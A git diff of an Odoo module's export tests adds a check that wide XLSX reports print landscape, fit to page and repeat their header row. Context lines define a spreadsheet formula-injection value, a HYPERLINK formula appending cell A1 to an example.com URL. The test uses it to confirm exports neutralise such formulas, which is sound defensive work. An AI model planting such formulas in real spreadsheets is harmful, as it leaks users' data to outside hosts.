@@ -4,8 +4,9 @@ import json
 from openpyxl import load_workbook
 
 from odoo import http
-from odoo.tests import HttpCase, tagged
+from odoo.tests import BaseCase, HttpCase, tagged
 
+from ..models.common.xlsx_report import TEXT, Sheet, workbook_of
 from .common import KhoDLFixtures
 
 FORMULA = '=HYPERLINK("https://example.com/?" & A1, "Open")'
@@ -76,3 +77,13 @@ class TestExports(KhoDLFixtures, HttpCase):
             told = [str(cell.value).strip() for cell in cells if cell.data_type == "s"]
             self.assertEqual(told, ["Total", FORMULA, "https://example.com", FORMULA])
             self.assertFalse([cell for cell in cells if cell.hyperlink])
+
+
+class TestOnPaper(BaseCase):
+    def test_a_table_is_as_wide_as_a_page_and_each_page_has_its_head(self):
+        content = workbook_of([Sheet("Wide", [(f"Column {number}", 30, TEXT) for number in range(13)], [["x"] * 13] * 90)])
+        page = load_workbook(io.BytesIO(content)).active
+        self.assertEqual((page.page_setup.orientation, int(page.page_setup.paperSize)), ("landscape", 9))
+        self.assertTrue(page.sheet_properties.pageSetUpPr.fitToPage)
+        self.assertEqual((page.page_setup.fitToHeight, page.print_title_rows), (0, "$1:$1"))
+        self.assertIn("&P/&N", page.oddFooter.center.text)
